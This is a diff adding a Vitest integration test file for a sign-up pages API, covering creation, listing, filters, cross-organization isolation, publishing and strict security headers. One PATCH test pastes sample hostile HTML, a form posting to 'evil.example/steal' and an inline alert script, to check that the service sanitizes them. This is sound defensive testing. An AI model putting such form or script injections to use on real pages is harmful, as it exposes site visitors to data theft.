@@ -1,0 +1,367 @@
+/**
+ * Sign-up pages through the pipeline (in process): the spec's list call
+ * (GET /signup-pages, "Sign-up pages" and "Limits"), the writes we
+ * designed, and the public page on its own origin.
+ */
+import { beforeAll, describe, expect, it } from 'vitest';
+import { endpointGroups, pageGroups } from '../../functions/groups.ts';
+import {
+  type ApiClient,
+  createApiClient,
+  createOrganizationWithKeys,
+  type TestOrganization,
+} from '../support/api-client.ts';
+import { fixedClock } from '../support/dynamo.ts';
+
+const ROW_FIELDS = [
+  'createdAt',
+  'id',
+  'listId',
+  'listName',
+  'name',
+  'slug',
+  'sourceTemplateName',
+  'status',
+  'updatedAt',
+].sort();
+
+describe('sign-up pages (GET /signup-pages and the writes)', () => {
+  const clock = fixedClock('2026-11-23T10:00:00.000Z');
+  let client: ApiClient;
+  let org: TestOrganization;
+  let other: TestOrganization;
+  let listId: string;
+  let secondListId: string;
+  let otherListId: string;
+
+  const create = async (body: Record<string, unknown>) => {
+    clock.advance(1000);
+    const answer = await client.post('/signup-pages', {
+      key: org.ownerKey,
+      body: { listId, theme: 'classic', ...body },
+    });
+    expect(answer.status, JSON.stringify(answer.json)).toBe(201);
+    return answer.json.data;
+  };
+
+  beforeAll(async () => {
+    client = await createApiClient({
+      clock,
+      groups: [...endpointGroups, ...pageGroups],
+    });
+    org = await createOrganizationWithKeys(client, 'Pages');
+    other = await createOrganizationWithKeys(client, 'Others');
+    const list = (name: string, key: string) =>
+      client
+        .post('/lists', { key, body: { name } })
+        .then((answer) => answer.json.data.id as string);
+    listId = await list('Newsletter', org.ownerKey);
+    secondListId = await list('Events', org.ownerKey);
+    otherListId = await list('Theirs', other.ownerKey);
+  });
+
+  it('POST creates a draft (201) from a theme, with a slug made from the name and the public address', async () => {
+    // Act
+    const page = await create({ name: 'Spring Launch!' });
+    // Assert
+    expect(page).toMatchObject({
+      name: 'Spring Launch!',
+      slug: 'spring-launch',
+      status: 'draft',
+      listId,
+      listName: 'Newsletter',
+      sourceTemplateName: 'classic',
+      version: 1,
+      publishedAt: null,
+      html: null,
+    });
+    expect(page.publicUrl).toMatch(/\/p\/pages[a-z0-9-]*\/spring-launch$/);
+    expect(page.content.fields).toEqual({ firstName: true, lastName: false });
+    // Another page of the same name takes the next free slug.
+    expect((await create({ name: 'Spring Launch!' })).slug).toBe(
+      'spring-launch-2',
+    );
+  });
+
+  it('POST refuses theme and html together, neither, an unknown theme, a reserved or malformed slug — 400 naming the field, nothing written', async () => {
+    // Arrange
+    const before = await client.scan();
+    const cases: [Record<string, unknown>, string][] = [
+      [
+        {
+          name: 'x',
+          listId,
+          theme: 'classic',
+          html: '<form><input name="email"></form>',
+        },
+        'html',
+      ],
+      [{ name: 'x', listId }, 'theme'],
+      [{ name: 'x', listId, theme: 'neon-pink' }, 'theme'],
+      [{ name: 'x', listId, theme: 'classic', slug: 'api' }, 'slug'],
+      [{ name: 'x', listId, theme: 'classic', slug: 'Has Spaces' }, 'slug'],
+      [{ name: 'x', listId, theme: 'classic', slug: 'a--b' }, 'slug'],
+      [{ name: '', listId, theme: 'classic' }, 'name'],
+      [{ name: 'x', listId, html: '<p>no form here</p>' }, 'html'],
+    ];
+    for (const [body, field] of cases) {
+      // Act
+      const answer = await client.post('/signup-pages', {
+        key: org.ownerKey,
+        body,
+      });
+      // Assert
+      expect(answer.status, JSON.stringify(body)).toBe(400);
+      expect(
+        answer.json.details.map((d: { field: string }) => d.field),
+        JSON.stringify(answer.json),
+      ).toContain(field);
+    }
+    expect(await client.scan()).toEqual(before);
+  });
+
+  it('POST answers 409 for a slug taken in the organization, 404 for a list of another organization, 403 for a member — writing nothing', async () => {
+    // Arrange
+    await create({ name: 'Taken', slug: 'taken' });
+    const before = await client.scan();
+    // Act
+    const taken = await client.post('/signup-pages', {
+      key: org.ownerKey,
+      body: { name: 'Again', listId, theme: 'bold', slug: 'taken' },
+    });
+    const foreign = await client.post('/signup-pages', {
+      key: org.ownerKey,
+      body: { name: 'Theirs', listId: otherListId, theme: 'classic' },
+    });
+    const member = await client.post('/signup-pages', {
+      key: org.memberKey,
+      body: { name: 'Member', listId, theme: 'classic' },
+    });
+    // Another organization may use the same slug.
+    const elsewhere = await client.post('/signup-pages', {
+      key: other.ownerKey,
+      body: {
+        name: 'Taken',
+        listId: otherListId,
+        theme: 'classic',
+        slug: 'taken',
+      },
+    });
+    // Assert
+    expect(taken.status).toBe(409);
+    expect(taken.json.code).toBe('signupPage.slugTaken');
+    expect(foreign.status).toBe(404);
+    expect(foreign.json.code).toBe('list.notFound');
+    expect(member.status).toBe(403);
+    expect(elsewhere.status).toBe(201);
+    const after = await client.scan();
+    expect(after.length).toBeGreaterThan(before.length);
+    expect(
+      after.filter(
+        (item) =>
+          String(item.PK).includes(org.orgId) ||
+          String(item.PK).startsWith('SLUG#pages'),
+      ),
+    ).toEqual(
+      before.filter(
+        (item) =>
+          String(item.PK).includes(org.orgId) ||
+          String(item.PK).startsWith('SLUG#pages'),
+      ),
+    );
+  });
+
+  it('GET lists newest first with the spec row (no HTML), page 1 and limit 20 by default, at most 100', async () => {
+    // Act
+    const all = await client.get('/signup-pages', { key: org.memberKey });
+    const second = await client.get('/signup-pages', {
+      key: org.memberKey,
+      query: { page: '2', limit: '1' },
+    });
+    const tooMany = await client.get('/signup-pages', {
+      key: org.memberKey,
+      query: { limit: '101' },
+    });
+    // Assert
+    expect(all.status).toBe(200);
+    expect(all.json.pagination).toMatchObject({ page: 1, limit: 20 });
+    const rows = all.json.data as { id: string; createdAt: string }[];
+    expect(rows.length).toBe(all.json.pagination.total);
+    for (const row of rows) expect(Object.keys(row).sort()).toEqual(ROW_FIELDS);
+    const created = rows.map((row) => row.createdAt);
+    expect(created).toEqual([...created].sort().reverse());
+    expect(second.json.data[0].id).toBe(rows[1]?.id);
+    expect(second.json.pagination).toMatchObject({
+      page: 2,
+      limit: 1,
+      totalPages: rows.length,
+    });
+    expect(tooMany.status).toBe(400);
+    expect(tooMany.json.details[0].field).toBe('limit');
+  });
+
+  it('GET filters: search over name and slug, status (another value 400), listId (another organization’s matches nothing)', async () => {
+    // Arrange
+    const autumn = await create({
+      name: 'Autumn sale',
+      slug: 'harvest',
+      listId: secondListId,
+    });
+    await client.post(`/signup-pages/${autumn.id}/publish`, {
+      key: org.ownerKey,
+    });
+    const get = (query: Record<string, string>) =>
+      client.get('/signup-pages', { key: org.memberKey, query });
+    // Act
+    const byName = await get({ search: 'AUTUMN' });
+    const bySlug = await get({ search: 'harv' });
+    const published = await get({ status: 'published' });
+    const drafts = await get({ status: 'draft' });
+    const badStatus = await get({ status: 'archived' });
+    const ofList = await get({ listId: secondListId });
+    const ofForeignList = await get({ listId: otherListId });
+    const nothing = await get({ search: 'no such page' });
+    // Assert
+    expect(byName.json.data.map((r: { id: string }) => r.id)).toEqual([
+      autumn.id,
+    ]);
+    expect(bySlug.json.data.map((r: { id: string }) => r.id)).toEqual([
+      autumn.id,
+    ]);
+    expect(published.json.data.map((r: { id: string }) => r.id)).toEqual([
+      autumn.id,
+    ]);
+    expect(published.json.pagination.total).toBe(1);
+    expect(
+      drafts.json.data.every((r: { status: string }) => r.status === 'draft'),
+    ).toBe(true);
+    expect(drafts.json.pagination.total).toBe(drafts.json.data.length);
+    expect(badStatus.status).toBe(400);
+    expect(badStatus.json.details[0].field).toBe('status');
+    expect(ofList.json.data.map((r: { id: string }) => r.id)).toEqual([
+      autumn.id,
+    ]);
+    expect(ofForeignList.status).toBe(200);
+    expect(ofForeignList.json.data).toEqual([]);
+    expect(ofForeignList.json.pagination.total).toBe(0);
+    expect(nothing.json.data).toEqual([]);
+  });
+
+  it('another organization’s page answers 404 on every call, and writes nothing', async () => {
+    // Arrange
+    const page = await create({ name: 'Private' });
+    const before = await client.scan();
+    const key = other.ownerKey;
+    // Act
+    const answers = await Promise.all([
+      client.get(`/signup-pages/${page.id}`, { key }),
+      client.patch(`/signup-pages/${page.id}`, { key, body: { name: 'Mine' } }),
+      client.delete(`/signup-pages/${page.id}`, { key }),
+      client.post(`/signup-pages/${page.id}/publish`, { key }),
+      client.post(`/signup-pages/${page.id}/unpublish`, { key }),
+    ]);
+    // Assert
+    for (const answer of answers) {
+      expect(answer.status).toBe(404);
+      expect(answer.json.code).toBe('signupPage.notFound');
+    }
+    expect(await client.scan()).toEqual(before);
+  });
+
+  it('PATCH changes content (version bumped), moves the slug (the old address is free), switches to pasted HTML and back', async () => {
+    // Arrange
+    const page = await create({ name: 'Changing', slug: 'changing' });
+    const patch = (body: Record<string, unknown>) =>
+      client.patch(`/signup-pages/${page.id}`, { key: org.ownerKey, body });
+    // Act
+    const renamed = await patch({ name: 'Renamed' });
+    const reworded = await patch({
+      headline: 'Join us',
+      fields: { lastName: true },
+    });
+    const moved = await patch({ slug: 'changed' });
+    const reuse = await create({ name: 'Reuse', slug: 'changing' });
+    const pasted = await patch({
+      html: '<h1>Hi</h1><form action="https://evil.example/steal"><label>Email <input name="email" type="email"></label><button>Go</button></form><script>alert(1)</script>',
+    });
+    const themed = await patch({ theme: 'minimal' });
+    const empty = await patch({});
+    // Assert
+    expect(renamed.json.data).toMatchObject({ name: 'Renamed', version: 1 });
+    expect(reworded.json.data.version).toBe(2);
+    expect(reworded.json.data.content).toMatchObject({
+      headline: 'Join us',
+      fields: { firstName: true, lastName: true },
+    });
+    expect(moved.json.data.slug).toBe('changed');
+    expect(reuse.slug).toBe('changing');
+    expect(pasted.json.data.sourceTemplateName).toBeNull();
+    expect(pasted.json.data.html).not.toContain('<script');
+    expect(pasted.json.data.html).not.toContain('evil.example');
+    expect(pasted.json.data.version).toBe(3);
+    expect(themed.json.data).toMatchObject({
+      sourceTemplateName: 'minimal',
+      html: null,
+      version: 4,
+    });
+    expect(empty.status).toBe(400);
+  });
+
+  it('GET /signup-pages/themes lists at least three themes, and each can make a page', async () => {
+    // Act
+    const themes = await client.get('/signup-pages/themes', {
+      key: org.memberKey,
+    });
+    // Assert
+    expect(themes.json.data.length).toBeGreaterThanOrEqual(3);
+    for (const theme of themes.json.data as { name: string }[]) {
+      expect(
+        (await create({ name: `Theme ${theme.name}`, theme: theme.name }))
+          .sourceTemplateName,
+      ).toBe(theme.name);
+    }
+  });
+
+  it('the public address answers only while published: 404 as a draft, 200 with strict headers once published, 404 at once after unpublish and delete', async () => {
+    // Arrange
+    const page = await create({ name: 'Visible', slug: 'visible' });
+    const path = new URL(page.publicUrl).pathname;
+    const view = () => client.get(path, { origin: 'pages' });
+    // Act
+    const draft = await view();
+    await client.post(`/signup-pages/${page.id}/publish`, {
+      key: org.ownerKey,
+    });
+    const live = await view();
+    const again = await client.post(`/signup-pages/${page.id}/publish`, {
+      key: org.ownerKey,
+    });
+    await client.post(`/signup-pages/${page.id}/unpublish`, {
+      key: org.ownerKey,
+    });
+    const unpublished = await view();
+    await client.post(`/signup-pages/${page.id}/publish`, {
+      key: org.ownerKey,
+    });
+    const deleted = await client.delete(`/signup-pages/${page.id}`, {
+      key: org.ownerKey,
+    });
+    const gone = await view();
+    // Assert
+    expect(draft.status).toBe(404);
+    expect(live.status).toBe(200);
+    expect(live.headers['content-type']).toContain('text/html');
+    const csp = live.headers['content-security-policy'] ?? '';
+    expect(csp).toContain("default-src 'none'");
+    expect(csp).toContain("form-action 'self'");
+    expect(csp).toContain("frame-ancestors 'none'");
+    expect(csp).not.toContain('script-src');
+    expect(live.headers['x-content-type-options']).toBe('nosniff');
+    expect(live.headers['referrer-policy']).toBe('no-referrer');
+    expect(live.body).toContain('name="email"');
+    expect(again.json.data.status).toBe('published');
+    expect(unpublished.status).toBe(404);
+    expect(deleted.json.data).toEqual({ id: page.id });
+    expect(gone.status).toBe(404);
+  });
+});
